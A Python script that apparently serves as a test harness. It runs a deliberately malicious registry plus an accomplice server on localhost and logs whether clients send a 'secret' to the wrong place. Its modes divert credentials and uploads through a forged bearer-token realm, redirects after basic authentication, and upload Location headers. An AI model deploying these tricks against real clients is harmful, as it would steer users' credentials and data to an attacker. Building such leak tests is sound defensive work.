#!/usr/bin/env python3
"""A registry that wants credentials and content to go where they must not.

    malicious-registry.py MODE [TARGET]

It listens on two free ports of 127.0.0.1, which it prints: its own and that of an accomplice, a server that
answers everything with 200 and "{}". TARGET is the URL that it names (default: the accomplice). MODE:

    realm       asks for a bearer token from TARGET
    redirect    asks for basic authentication, then redirects everything to TARGET
    location    asks for basic authentication, then sends uploads to TARGET
    token       asks for a bearer token from itself, and redirects whoever asks there to TARGET

Prints a line of JSON for each request: which server, method, path, and whether the word "secret" stands
anywhere in it, as it is or in base64.
"""

import base64
import http.server
import json
import sys
import threading


class Base(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    name = ""
    mode = ""
    target = ""

    def tell(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        text = f"{self.path}\n{self.headers}\n{body.decode(errors='replace')}"
        for word in text.split():
            try:
                text += base64.b64decode(word, validate=True).decode(errors="replace")
            except ValueError:
                continue
        print(json.dumps({"server": self.name, "method": self.command, "path": self.path,
                          "secret": "secret" in text}), flush=True)

    def reply(self, status, headers=(), body=b""):
        self.send_response(status)
        for name, value in headers:
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    def log_message(self, *_):
        """Nothing: the lines of JSON are the log."""


class Registry(Base):
    name = "registry"

    def do_any(self):
        self.tell()
        if self.path.startswith("/token"):
            self.reply(307, [("Location", self.target)])
        elif self.mode in ("realm", "token"):
            realm = self.target if self.mode == "realm" else f"http://{self.headers['Host']}/token"
            self.reply(401, [("WWW-Authenticate", f'Bearer realm="{realm}",service="s"')])
        elif "Authorization" not in self.headers:
            self.reply(401, [("WWW-Authenticate", 'Basic realm="r"')])
        elif self.mode == "redirect":
            self.reply(307, [("Location", self.target)])
        elif self.command == "POST":
            self.reply(202, [("Location", self.target)])
        else:
            self.reply(404)

    do_GET = do_HEAD = do_POST = do_PUT = do_PATCH = do_DELETE = do_any


class Accomplice(Base):
    name = "accomplice"

    def do_any(self):
        self.tell()
        self.reply(200, body=b"{}")

    do_GET = do_HEAD = do_POST = do_PUT = do_PATCH = do_DELETE = do_any


def main():
    accomplice = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Accomplice)
    registry = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Registry)
    Base.mode = sys.argv[1]
    Base.target = sys.argv[2] if len(sys.argv) > 2 else f"http://127.0.0.1:{accomplice.server_port}/x"
    for server in (accomplice, registry):
        server.daemon_threads = True
    threading.Thread(target=accomplice.serve_forever, daemon=True).start()
    print(f"listening on 127.0.0.1:{registry.server_port}", flush=True)
    registry.serve_forever()


if __name__ == "__main__":
    main()
